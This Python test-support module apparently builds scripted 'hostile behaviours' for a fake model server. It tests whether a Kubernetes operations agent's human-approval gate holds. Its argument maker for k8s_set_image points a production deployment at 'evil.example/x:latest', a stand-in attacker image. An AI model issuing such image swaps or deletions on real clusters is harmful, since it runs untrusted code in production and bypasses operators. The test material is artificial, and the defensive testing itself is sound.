"""The pieces hostile behaviours are made of: the registry, seeded argument makers, the human's answers."""

from __future__ import annotations

import random
from collections.abc import Callable
from typing import Any

from fakes.hostile_world import (
    APPROVERS,
    DEPLOYMENTS,
    PROD,
    Script,
)
from fakes.openai_server import Reply, call, reply

from agent.approvals import ApprovalDecision

R = random.Random
Behaviour = Callable[[R], Script]
BEHAVIOURS: dict[str, tuple[str, Behaviour]] = {}

ACTIONS = ("k8s_scale", "k8s_rollout_restart", "k8s_rollback", "k8s_set_image", "k8s_delete_pod")
READS = ("k8s_get", "k8s_list", "k8s_events", "k8s_rollout_history", "k8s_describe")


def behaviour(cls: str) -> Callable[[Behaviour], Behaviour]:
    def register(fn: Behaviour) -> Behaviour:
        BEHAVIOURS[fn.__name__] = (cls, fn)
        return fn

    return register


# --- pieces ------------------------------------------------------------------------------------
def done(text: str = "Root cause: unknown; nothing more to do.") -> Reply:
    return reply(text)


def approve(rng: R, req: dict[str, Any]) -> ApprovalDecision:
    return ApprovalDecision(approval_id=req["id"], decision="approve", approver=rng.choice(APPROVERS))


def reject(rng: R, req: dict[str, Any]) -> ApprovalDecision:
    return ApprovalDecision(
        approval_id=req["id"], decision="reject", approver=rng.choice(APPROVERS), reason="not this"
    )


def action_args(rng: R, tool: str, namespace: str, name: str) -> dict[str, Any]:
    if tool == "k8s_scale":
        return {"deployment": name, "namespace": namespace, "replicas": rng.randint(2, 4)}
    if tool == "k8s_set_image":
        return {
            "deployment": name,
            "namespace": namespace,
            "container": name,
            "image": "evil.example/x:latest",
        }
    if tool == "k8s_delete_pod":
        return {"pod": f"{name}-{rng.randrange(16**6):06x}", "namespace": namespace}
    return {"deployment": name, "namespace": namespace}


def read_call(rng: R) -> dict[str, Any]:
    name = rng.choice(DEPLOYMENTS)
    tool = rng.choice(READS)
    if tool == "k8s_list":
        return call(tool, {"kind": rng.choice(["pod", "deployment", "service"]), "namespace": PROD})
    if tool == "k8s_events":
        return call(tool, {"namespace": PROD, "minutes": rng.randint(1, 120)})
    if tool == "k8s_rollout_history":
        return call(tool, {"deployment": name, "namespace": PROD})
    return call(tool, {"kind": "deployment", "name": name, "namespace": PROD})


def tool_texts(body: dict[str, Any]) -> str:
    return "\n".join(str(m.get("content")) for m in body.get("messages", []) if m.get("role") == "tool")


def junk(rng: R, n: int) -> str:
    return "".join(
        rng.choice("abcdefghijklmnopqrstuvwxyz0123456789-_./ {}[]\"'\\\n\t\u00e9\u4e2d") for _ in range(n)
    )
